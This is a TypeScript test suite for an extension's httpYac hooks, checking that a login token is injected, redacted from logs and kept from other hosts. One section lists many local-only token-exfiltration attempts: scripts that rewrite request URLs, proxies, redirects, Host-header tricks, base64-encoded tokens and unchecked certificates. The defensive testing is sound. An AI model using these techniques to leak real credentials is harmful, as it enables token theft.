import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { type AddressInfo, connect } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Duplex } from 'node:stream';
import { inspect } from 'node:util';
import * as httpyac from 'httpyac';
import { Redactor } from '../../../../../src/core/masking/redaction';
import { matchProfiles, sentTarget } from '../../../../../src/core/requestAnalysis/matchProfiles';
import { hookIntoHttpYac, type HookDeps } from '../../../../../src/features/requests/sending/httpyacHooks';
import type { OutgoingRequest } from '../../../../../src/features/requests/sending/httpyacRequest';
import { profileWith } from '../../../../support/fakes';
import { selfSignedCertificate } from '../../../../support/selfSigned';

const variable = 'HOSTED_LOGIN_TOKEN';
const fresh = 'fresh-token-of-ours-000000000001';
const stale = 'stale-token-of-ours-000000000002';
const foreign = 'a-token-of-somebody-else';

/** With the library that the extension holds, and the loggers that it sets. */
describe('the hooks in httpYac', () => {
  /** The target of the server's redirects. */
  let redirectTo: string | undefined;
  /** What arrived at the server. */
  const received: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    received.push(request.headers.authorization);
    const body: Buffer[] = [];
    request
      .on('data', (chunk: Buffer) => body.push(chunk))
      .on('end', () => {
        if (redirectTo !== undefined) {
          response.writeHead(request.method === 'GET' ? 302 : 307, { location: redirectTo }).end();
          return;
        }
        response.setHeader('content-type', 'application/json');
        response.setHeader('x-echo', request.headers.authorization ?? '');
        const { headers, url } = request;
        response.end(
          JSON.stringify({
            echo: headers.authorization,
            url,
            ...(body.length > 0 && { body: Buffer.concat(body).toString() }),
          }),
        );
      });
  });
  const { options } = httpyac.io.log;
  const earlier = { token: process.env[variable], logMethod: options.logMethod };
  const loggers = () => Object.getOwnPropertyDescriptors(httpyac.io.Logger.prototype);
  const unhooked = loggers();
  let origin = '';
  /** Everything that a log or a view got. */
  let shown: string[] = [];
  let warnings: string[] = [];
  let refusals: string[] = [];
  let takeBack: (() => void) | undefined;

  const note = (...parts: unknown[]) => {
    shown.push(parts.map(part => (part instanceof Error ? part.stack : written(part))).join(' '));
  };
  const written = (part: unknown) => {
    try {
      return JSON.stringify(part);
    } catch {
      return inspect(part);
    }
  };
  const documentStore = new httpyac.store.HttpFileStore();
  /** No folder of a project, where httpYac would look for plugins. */
  const workingDir = os.tmpdir();
  const fileNamed = (name: string) => path.join(workingDir, name);
  const exported = { httpyac, documentStore };

  function hook(deps: Partial<HookDeps> = {}): void {
    const redactor = new Redactor();
    redactor.add(fresh);
    redactor.add(stale);
    const hooked = hookIntoHttpYac(exported, {
      tokensFor: () =>
        Promise.resolve({ token: fresh, own: [fresh, stale], forbidden: [], refusal: undefined }),
      refused: ({ host, reason }) => refusals.push(`${host}: ${reason ?? 'nobody’s'}`),
      learnSecrets: () => Promise.resolve(),
      redact: text => redactor.redactKnown(text),
      warn: (message, error) => warnings.push(`${message}: ${String(error)}`),
      ...deps,
    });
    takeBack = hooked?.takeBack;
    assert.ok(takeBack);
  }

  before(async () => {
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    await httpyac.cli.initIOProvider();
    options.logMethod = note;
  });
  beforeEach(() => {
    process.env[variable] = stale;
    [shown, warnings, refusals] = [[], [], []];
    received.length = 0;
    redirectTo = undefined;
  });
  afterEach(() => {
    takeBack?.();
    takeBack = undefined;
    assert.deepEqual(loggers(), unhooked, 'the loggers are as they were');
    assert.ok(!('hosted-login' in httpyac.store.pluginStore));
  });
  after(async () => {
    if (earlier.token === undefined) Reflect.deleteProperty(process.env, variable);
    else process.env[variable] = earlier.token;
    if (earlier.logMethod) options.logMethod = earlier.logMethod;
    else delete options.logMethod;
    server.closeAllConnections();
    await new Promise(resolve => server.close(resolve));
  });

  const request = (target = `${origin}/a`, authorization = `Bearer {{$processEnv ${variable}}}`) =>
    `GET ${target}\nAuthorization: ${authorization}\n`;

  /**
   * Sends as the extension does: the file from its store, a console for scripts, everything logged.
   * @returns the variables, where a named request has its answer
   */
  async function send(
    text: string,
    name = 'file.http',
    scriptConsole: httpyac.ConsoleLogHandler | null = new httpyac.io.Logger({ logMethod: note }),
    config: httpyac.EnvironmentConfig = {},
  ): Promise<httpyac.Variables> {
    const getText = () => Promise.resolve(text);
    const httpFile = await documentStore.getOrCreate(fileNamed(name), getText, 1, { workingDir });
    const httpRegion = httpFile.httpRegions.find(region => region.request !== undefined);
    assert.ok(httpRegion);
    const logs = { requestHeaders: true, requestBodyLength: 1024, responseHeaders: true };
    const context: httpyac.HttpRegionSendContext = {
      httpFile,
      httpRegion,
      config,
      ...(scriptConsole && { scriptConsole }),
      logResponse: async (response, region) => {
        const log = httpyac.utils.requestLoggerFactory(note, { requestOutput: true, ...logs });
        await log(response, region);
        note(response);
      },
    };
    await httpyac.send(context);
    return context.variables ?? {};
  }

  const shownText = () => shown.join('\n');

  it('send the fresh token when the variable is stale', async () => {
    hook();
    await send(request());
    assert.deepEqual(received, [`Bearer ${fresh}`]);
  });

  it('tell what leaves, with its variables put in', async () => {
    const asked: OutgoingRequest[] = [];
    hook({
      tokensFor: leaving => {
        asked.push(leaving);
        return Promise.resolve({ token: undefined, own: [], forbidden: [], refusal: undefined });
      },
    });
    await send(`@origin = ${origin}\n${request('{{origin}}/b')}`);
    assert.deepEqual(asked, [
      { url: `${origin}/b`, method: 'GET', hosts: [], proxy: undefined, doubt: undefined },
    ]);
    assert.deepEqual(received, ['Bearer'], 'nothing from the variable');
  });

  it('put the token into URL and body too', async () => {
    hook();
    const text = request(`${origin}/b?t={{$processEnv ${variable}}}`).replace('GET', 'POST');
    const body = `t={{$processEnv ${variable}}}&ä=1`;
    const variables = await send(
      `# @name b\n${text}Content-Type: application/x-www-form-urlencoded\n\n${body}`,
    );
    assert.deepEqual(variables['b'], {
      ...{ echo: `Bearer ${fresh}`, url: `/b?t=${fresh}`, body: `t=${fresh}&%C3%A4=1` },
    });
  });

  it('put the token into what httpYac kept of a file that has changed since', async () => {
    hook();
    const first = `@auth = Bearer {{$processEnv ${variable}}}\nGET ${origin}/a\nAuthorization: {{auth}}\n`;
    const texts = [first, `${first}\n###\nGET ${origin}/b\nAuthorization: {{auth}}\n`];
    for (const [index, text] of texts.entries()) {
      const name = fileNamed('kept.http');
      const httpFile = await documentStore.getOrCreate(name, () => Promise.resolve(text), index, {
        workingDir,
      });
      const httpRegion = httpFile.httpRegions.filter(({ request }) => request !== undefined).at(-1);
      assert.ok(httpRegion);
      await httpyac.send({ httpFile, httpRegion });
    }
    assert.deepEqual(received, [`Bearer ${fresh}`, `Bearer ${fresh}`]);
  });

  it('put the token into variables of an imported file', async () => {
    hook();
    const folder = mkdtempSync(path.join(os.tmpdir(), 'import-'));
    try {
      writeFileSync(path.join(folder, 'auth.http'), `@auth = Bearer {{$processEnv ${variable}}}\n`);
      const text = `# @import ./auth.http\n\n###\nGET ${origin}/a\nAuthorization: {{auth}}\n`;
      await send(text, path.join(path.basename(folder), 'main.http'));
    } finally {
      rmSync(folder, { recursive: true });
    }
    assert.deepEqual(received, [`Bearer ${fresh}`]);
  });

  describe('keep our tokens', () => {
    const customerId = 'aaaaaaaa-0000-0000-0000-000000000001';
    const below = `/${customerId}/config/clients`;
    const header = `Authorization: Bearer {{$processEnv ${variable}}}`;
    /** What arrived at the other server: everything that a request has. */
    const stolen: string[] = [];
    const take = (what: string) => stolen.push(what);
    const certificate = selfSignedCertificate({ host: '127.0.0.1' });
    const evil = createServer((asked, response) => {
      take(`${asked.url ?? ''} ${JSON.stringify(asked.rawHeaders)}`);
      asked.on('data', (chunk: Buffer) => take(chunk.toString())).on('end', () => response.end());
    });
    /** Terminates TLS with its own certificate, for any host. */
    const evilTls = createTlsServer(certificate, (asked, response) => {
      take(JSON.stringify(asked.rawHeaders));
      response.end();
    });
    const tunnels: Duplex[] = [];
    let tlsPort = 0;
    // A proxy that connects every tunnel to the server that terminates TLS.
    evil.on('connect', (_, socket) => {
      const onward = connect(tlsPort, '127.0.0.1', () => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n');
        socket.pipe(onward).pipe(socket);
      });
      for (const each of [socket, onward]) {
        tunnels.push(each);
        each.on('error', () => each.destroy());
      }
    });
    let evilOrigin = '';
    let tlsOrigin = '';
    const profiles = () => [
      profileWith({ origin, customerId }),
      profileWith({ id: 'p2', origin: 'https://good.example', customerId }),
      profileWith({ id: 'p3', origin: tlsOrigin, customerId }),
    ];

    before(async () => {
      for (const each of [evil, evilTls] as Server[]) {
        await new Promise<void>(resolve => each.listen(0, '127.0.0.1', resolve));
      }
      evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
      tlsPort = (evilTls.address() as AddressInfo).port;
      tlsOrigin = `https://127.0.0.1:${tlsPort}`;
    });
    beforeEach(() => {
      stolen.length = 0;
      hook({
        tokensFor: leaving => {
          const where = matchProfiles(sentTarget(leaving), profiles());
          return Promise.resolve(
            where.kind === 'yes'
              ? { token: fresh, own: [fresh, stale], forbidden: [], refusal: undefined }
              : {
                  token: undefined,
                  own: [],
                  forbidden: [fresh, stale],
                  refusal: { host: leaving.url, reason: where.kind === 'unknown' ? where.reason : undefined },
                },
          );
        },
      });
    });
    after(async () => {
      for (const each of tunnels) each.destroy();
      for (const each of [evil, evilTls] as Server[]) {
        each.closeAllConnections();
        await new Promise(resolve => each.close(resolve));
      }
    });

    const rows: readonly (readonly [title: string, text: () => string])[] = [
      ['another host', () => `GET ${evilOrigin}${below}\n${header}`],
      ['a second value', () => `@h = ${origin}\n@h = ${evilOrigin}\nGET {{h}}${below}\n${header}`],
      [
        'a value below the request',
        () => `@h = ${evilOrigin}\n\n###\nPOST {{h}}${below}\n${header}\n\n{}\n\n@h = ${origin}`,
      ],
      [
        'a value between headers',
        () => `@h = ${evilOrigin}\n\n###\nGET {{h}}${below}\n@h = ${origin}\n${header}`,
      ],
      [
        'a value in a comment',
        () => `@h = ${evilOrigin}\n/*\n@h = ${origin}\n*/\nGET {{h}}${below}\n${header}`,
      ],
      [
        'a value in a block with a title',
        () => `@h = ${evilOrigin}\n\n### A\n@h = ${origin}\n\n###\nGET {{h}}${below}\n${header}`,
      ],
      [
        'a script that changes another request',
        () =>
          `{{\nhttpFile.httpRegions.find(each => each.request).request.url = '${evilOrigin}/x';\n}}\n\n###\nGET ${origin}${below}\n${header}`,
      ],
      [
        'a function that gets the request',
        () =>
          `{{\nexports.f = sent => {\nsent.url = '${evilOrigin}/x';\nreturn 'a';\n};\n}}\n\n###\nPOST ${origin}${below}\n${header}\n\n{"a": "{{f(request)}}"}`,
      ],
      [
        'a URL that is computed when it is read',
        () =>
          `GET ${origin}${below}\n${header}\nX-A: {{request.__defineGetter__('url', () => '${evilOrigin}/x')}}`,
      ],
      ['a script', () => `{{\nexports.h = '${evilOrigin}';\n}}\nGET {{h}}${below}\n${header}`],
      ['an expression', () => `GET {{['${evilOrigin}'].join('')}}${below}\n${header}`],
      [
        'a script that changes the URL',
        () => `{{@request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
      ],
      [
        'a script that changes the URL before',
        () => `{{\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
      ],
      [
        'a script for every request',
        () => `{{+request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
      ],
      [
        'an expression in a header',
        () => `GET ${origin}${below}\n${header}\nX-A: {{request.url = '${evilOrigin}/x'}}`,
      ],
      ['no slashes', () => `GET ${evilOrigin.replace('//', '')}${below}\n${header}`],
      ['a user name', () => `GET ${origin}@${evilOrigin.slice(7)}${below}\n${header}`],
      ['a Host header', () => `GET ${below}\nHost: ${evilOrigin.slice(7)}\n${header}`],
      ['the profile’s Host header', () => `GET ${evilOrigin}${below}\nHost: ${origin.slice(7)}\n${header}`],
      ['the variable host', () => `@host = ${evilOrigin}\nGET ${below}\n${header}`],
      ['a proxy', () => `# @proxy ${evilOrigin}\nGET ${origin}${below}\n${header}`],
      ['a proxy of a variable', () => `@request_proxy = ${evilOrigin}\nGET ${origin}${below}\n${header}`],
      [
        'a proxy and a certificate that nobody checks',
        () => `# @proxy ${evilOrigin}\n# @noRejectUnauthorized\nGET https://good.example${below}\n${header}`,
      ],
      [
        'such a certificate by a variable',
        () =>
          `# @proxy ${evilOrigin}\n@request_rejectUnauthorized = false\nGET https://good.example${below}\n${header}`,
      ],
      [
        'such a certificate by a script',
        () =>
          `# @proxy ${evilOrigin}\n{{@request\nrequest.options.https = { rejectUnauthorized: false };\n}}\nGET https://good.example${below}\n${header}`,
      ],
      [
        'an option of a script',
        () =>
          `{{@request\nrequest.options.prefixUrl = '${evilOrigin}/';\n}}\nGET ${origin}${below}\n${header}`,
      ],
      [
        'what a script reads from the environment',
        () => `GET ${evilOrigin}${below}\nAuthorization: Bearer {{process.env.${variable}}}`,
      ],
      [
        'what a script puts into another header',
        () =>
          `{{@request\nrequest.headers['x-a'] = process.env['${variable}'];\n}}\nGET ${evilOrigin}${below}`,
      ],
      ['a token written out', () => `GET ${evilOrigin}${below}\nAuthorization: Bearer ${stale}`],
      [
        'a script in the client itself',
        () =>
          `{{@request\nrequest.options.hooks.beforeRequest.push(sent => {\nsent.url = new URL('${evilOrigin}/x');\n});\n}}\nGET ${origin}${below}\n${header}`,
      ],
      ['the URL', () => `GET ${evilOrigin}/{{$processEnv ${variable}}}`],
      ['a name without a blank', () => `GET ${evilOrigin}/{{$processEnv${variable}}}`],
      [
        'the name in a Basic authorization',
        () => `GET ${evilOrigin}/\nAuthorization: Basic me {{$processEnv${variable}}}`,
      ],
      [
        'a script, in base64',
        () => `GET ${evilOrigin}/\nX-A: {{Buffer.from('me:' + process.env.${variable}).toString('base64')}}`,
      ],
      ['a cookie', () => `GET ${evilOrigin}/\nCookie: a={{$processEnv ${variable}}}`],
      ['a cookie with a token written out', () => `GET ${evilOrigin}/\nCookie: a=${stale}; b=1`],
      ['the name of a cookie', () => `GET ${evilOrigin}/\nCookie: ${stale}=1`],
      [
        'a cookie, and a script that changes the URL',
        () =>
          `{{@request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}/x\nCookie: a={{$processEnv ${variable}}}`,
      ],
      ['the body', () => `POST ${evilOrigin}/\n\nt={{$processEnv ${variable}}}`],
      [
        'another request that is sent before',
        () => `# @ref b\nGET ${origin}${below}\n${header}\n###\n# @name b\nGET ${evilOrigin}/\n${header}`,
      ],
    ];
    for (const [title, text] of rows) {
      it(`from another server: ${title}`, async () => {
        await send(text());
        assert.ok(stolen.length > 0 || received.length === 0, 'something was sent, and not to the profile');
        assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
        assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
        const encoded = Buffer.from(`me:${stale}`).toString('base64');
        assert.ok(!stolen.join('\n').includes(encoded), stolen.join('\n'));
        assert.ok(!stolen.join('\n').includes('hosted-login-token'), 'nor what stands for it');
        // A computed URL cannot be written, so nothing is sent.
        if (!/client itself|Basic|computed/.test(title))
          assert.notEqual(refusals.length, 0, 'and it is told');
        assert.deepEqual(warnings, []);
      });
    }

    it('from where a redirect leads, in a cookie too', async () => {
      redirectTo = `${evilOrigin}${below}/y`;
      await send(
        `GET ${origin}${below}\nCookie: a={{$processEnv ${variable}}}\n${header}`,
        ...(['cookie.http', null, { defaultHeaders: { 'x-a': '1' } }] as const),
      );
      assert.deepEqual(received, [`Bearer ${fresh}`]);
      assert.equal(stolen.length, 1);
      for (const value of [fresh, stale]) assert.ok(!stolen.join('\n').includes(value), stolen.join('\n'));
    });

    it('from a proxy of the project', async () => {
      await send(`GET ${origin}${below}\n${header}`, 'proxy.http', null, { proxy: evilOrigin });
      assert.equal(stolen.length, 1);
      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
    });

    it('from headers that the project’s configuration adds', async () => {
      const config = { request: { headers: { 'x-a': `a ${stale}` } } } as httpyac.EnvironmentConfig;
      await send(`GET ${evilOrigin}/a`, 'added.http', null, config);
      assert.equal(stolen.length, 1);
      assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
      assert.equal(refusals.length, 1);
      await send(`GET ${origin}${below}`, 'added-own.http', null, config);
      assert.equal(received.length, 1);
    });

    it('from the target of a redirect, in the body too', async () => {
      redirectTo = `${evilOrigin}/x`;
      await send(
        `POST ${origin}${below}\n${header}\nX-A: {{$processEnv${variable}}}\n\nt={{$processEnv ${variable}}}`,
      );
      assert.deepEqual(received, [`Bearer ${fresh}`]);
      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
      assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
    });

    it('from where a redirect leads', async () => {
      redirectTo = `${evilOrigin}/x`;
      await send(`GET ${origin}${below}\n${header}`);
      assert.deepEqual(received, [`Bearer ${fresh}`]);
      assert.equal(stolen.length, 1);
      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
    });

    it('from where a redirect leads, also other ones, in other forms and in names of headers', async () => {
      redirectTo = `${evilOrigin}/x`;
      const encoded = `Buffer.from('me:' + process.env.${variable}).toString('base64')`;
      const more = `X-A: ${stale}\nX-B: {{${encoded}}}\n${stale}: 1\nX-C: {{encodeURIComponent(process.env.${variable})}}`;
      await send(`GET ${origin}${below}\n${header}\n${more}`);
      assert.deepEqual(received, [`Bearer ${fresh}`]);
      assert.equal(stolen.length, 1);
      for (const value of [fresh, stale, Buffer.from(`me:${stale}`).toString('base64').slice(4, -4)])
        assert.ok(!stolen.join('\n').toLowerCase().includes(value.toLowerCase()), stolen.join('\n'));
    });

    it('but send them to the profile’s own host, whatever else is in the file', async () => {
      const texts = [
        `@h = ${evilOrigin}\n@h = ${origin}\nGET {{h}}${below}\n${header}`,
        `{{@request\nrequest.headers['x-a'] = '1';\n}}\nGET ${origin}${below}\n${header}`,
        `GET ${below}\nHost: ${origin.slice(7)}\n${header}`,
        `GET ${origin}${below}\nAuthorization: Bearer {{process.env.${variable}}}`,
      ];
      for (const [index, text] of texts.entries()) await send(text, `own-${index}.http`);
      assert.deepEqual(
        received,
        texts.map(() => `Bearer ${fresh}`),
      );
      assert.deepEqual(refusals, []);
    });

    it('but send them to a server of this machine whose certificate is not checked', async () => {
      await send(`# @noRejectUnauthorized\nGET ${tlsOrigin}${below}\n${header}`);
      assert.ok(stolen.join('\n').includes(fresh), 'it is a profile’s');
    });
  });

  it('leave other variables alone', async () => {
    hook({ tokensFor: () => assert.fail('asked') });
    process.env['HOSTED_LOGIN_TOKENS'] = 'another';
    try {
      await send(request(undefined, 'Bearer {{$processEnv HOSTED_LOGIN_TOKENS}}'), 'other.http');
      await send(request(undefined, `Bearer ${foreign}`), 'foreign.http');
    } finally {
      Reflect.deleteProperty(process.env, 'HOSTED_LOGIN_TOKENS');
    }
    assert.deepEqual(received, ['Bearer another', `Bearer ${foreign}`]);
    assert.deepEqual(warnings, []);
    assert.ok(shownText().includes(foreign), 'a token of somebody else stays as it is');
  });

  it('keep our tokens out of the log: URL, headers, body and answer', async () => {
    hook();
    const body = `{"a": "${stale}"}`;
    const head = request(`${origin}/c?token=${stale}`).replace('GET', 'POST');
    const variables = await send(`# @name c\n${head}Content-Type: application/json\n\n${body}`);
    assert.equal(received.length, 1);
    assert.match(shownText(), /Authorization[^\n]*Bearer •••/i);
    assert.match(shownText(), /x-echo/);
    assert.ok(!shownText().includes(fresh) && !shownText().includes(stale), shownText());
    assert.deepEqual(
      variables['c'],
      { echo: `Bearer ${fresh}`, url: `/c?token=${stale}`, body },
      'scripts see it all',
    );
    const { request: sent } = variables['response'] as httpyac.HttpResponse;
    assert.match(written(sent), /"authorization":"Bearer •••"/i, 'and the view of variables does not');
    assert.ok(!written(sent).includes(stale));
  });

  it('learn of all tokens before they mask', async () => {
    const late = 'late-token-of-ours-0000000003';
    const redactor = new Redactor();
    hook({
      redact: text => redactor.redactKnown(text),
      learnSecrets: () => {
        redactor.add(late);
        return Promise.resolve();
      },
    });
    await send(request(undefined, `Bearer ${late}`));
    assert.deepEqual(received, [`Bearer ${late}`]);
    assert.ok(!shownText().includes(late));
  });

  for (const [name, hasConsole] of [
    ['console', true],
    ['log', false],
  ] as const) {
    it(`keep them out of the ${name} of a request that could not be sent`, async () => {
      const closed = createServer().listen(0, '127.0.0.1');
      await new Promise(resolve => closed.once('listening', resolve));
      const { port } = closed.address() as AddressInfo;
      await new Promise(resolve => closed.close(resolve));
      hook();
      const target = request(`http://127.0.0.1:${port}/d`);
      if (hasConsole) await send(target);
      else await send(target, 'file.http', null);
      assert.match(shownText(), /ECONNREFUSED/);
      assert.match(shownText(), /Bearer •••/, 'httpYac logs the request with its headers');
      assert.ok(!shownText().includes(fresh), shownText());
    });
  }

  it('keep them out of what scripts write, in objects of whatever class', async () => {
    hook();
    const lines = [
      'class Session { constructor(token) { this.token = token; } }',
      `const token = '${stale}';`,
      'console.info({ plain: token }, [token], new Session(token), new Error(token));',
      'console.info(new Map([[token, 1]]), new URL("http://h.example/?" + token));',
    ];
    await send(`{{\n${lines.join('\n')}\n}}\n${request()}`);
    assert.deepEqual(received, [`Bearer ${fresh}`]);
    assert.match(shownText(), /plain[^]*•••/);
    assert.ok(!shownText().includes(stale), shownText());
  });

  it('log nothing of values that they cannot search', async () => {
    hook();
    const line = `console.info('before', { get a() { throw new Error('no'); }, token: '${stale}' }, 'behind');`;
    await send(`{{\n${line}\n}}\n${request()}`);
    assert.match(shownText(), /before[^]*behind/);
    assert.ok(!shownText().includes(stale), shownText());
  });

  it('do not stop httpYac when they fail, and log it once', async () => {
    hook({
      tokensFor: () => Promise.reject(new Error('no token today')),
      learnSecrets: () => Promise.reject(new Error('no storage either')),
    });
    await send(request());
    await send(request(), 'second.http');
    assert.deepEqual(received, ['Bearer', 'Bearer'], 'without a token');
    assert.deepEqual(warnings, ['httpYac is left alone: Error: no token today']);
  });

  it('mask what is known also when the tokens cannot be read', async () => {
    hook({ learnSecrets: () => Promise.reject(new Error('no storage')) });
    await send(request());
    assert.ok(!shownText().includes(fresh), shownText());
  });

  it('have no effect after they are disposed, also in files that were parsed with them', async () => {
    hook();
    const text = request();
    await documentStore.getOrCreate(fileNamed('file.http'), () => Promise.resolve(text), 1, { workingDir });
    const kept = documentStore.get(fileNamed('file.http'));
    assert.ok(kept);
    takeBack?.();
    await send(text);
    assert.deepEqual(received, [`Bearer ${stale}`]);
    assert.ok(shownText().includes(stale), 'nothing is masked anymore');
    assert.notEqual(documentStore.get(fileNamed('file.http')), kept);
    const [httpRegion] = kept.httpRegions;
    assert.ok(httpRegion);
    await httpyac.send({ httpFile: kept, httpRegion });
    assert.deepEqual(
      received,
      [`Bearer ${stale}`, `Bearer ${stale}`],
      'one that is still held is as without us',
    );
  });

  describe('do no harm when httpYac is not as we know it', () => {
    const throwing = {
      get httpyac() {
        throw new Error('not today');
      },
    };
    const frozen = { httpyac: { store: { pluginStore: Object.freeze({}) } } };
    const shapes: readonly (readonly [string, unknown])[] = [
      ['nothing', undefined],
      ['null', null],
      ['a number', 1],
      ['a function', () => undefined],
      ['no library', {}],
      ['no store', { httpyac: {} }],
      ['no plugins', { httpyac: { store: { pluginStore: null } } }],
      ['a getter that throws', throwing],
      ['plugins that cannot be added to', frozen],
    ];
    const deps = (): HookDeps => ({
      tokensFor: () => assert.fail('asked'),
      refused: () => assert.fail('refused'),
      learnSecrets: () => Promise.resolve(),
      redact: text => text,
      warn: (message, error) => warnings.push(`${message}: ${String(error)}`),
    });
    for (const [name, shape] of shapes) {
      it(`: ${name}`, () => {
        assert.equal(hookIntoHttpYac(shape, deps()), undefined);
      });
    }

    type Plugins = Record<string, ((api: unknown) => unknown) | undefined>;
    const apis: readonly (readonly [string, unknown])[] = [
      ['nothing', undefined],
      ['no hooks', {}],
      ['other hooks', { hooks: { replaceVariable: {}, onRequest: null } }],
      [
        'hooks without a last moment',
        { hooks: { replaceVariable: { addHook: () => assert.fail('added') } } },
      ],
      [
        'hooks that cannot be added',
        {
          hooks: {
            replaceVariable: { addHook: () => assert.fail('no hooks today') },
            onRequest: { addInterceptor: () => undefined },
          },
        },
      ],
    ];
    for (const [name, api] of apis) {
      it(`: plugins that get ${name}`, () => {
        const pluginStore: Plugins = {};
        const undo = hookIntoHttpYac({ httpyac: { store: { pluginStore } } }, deps());
        assert.equal(pluginStore['hosted-login']?.(api), undefined);
        undo?.takeBack();
        assert.deepEqual(pluginStore, {});
      });
    }
  });
});
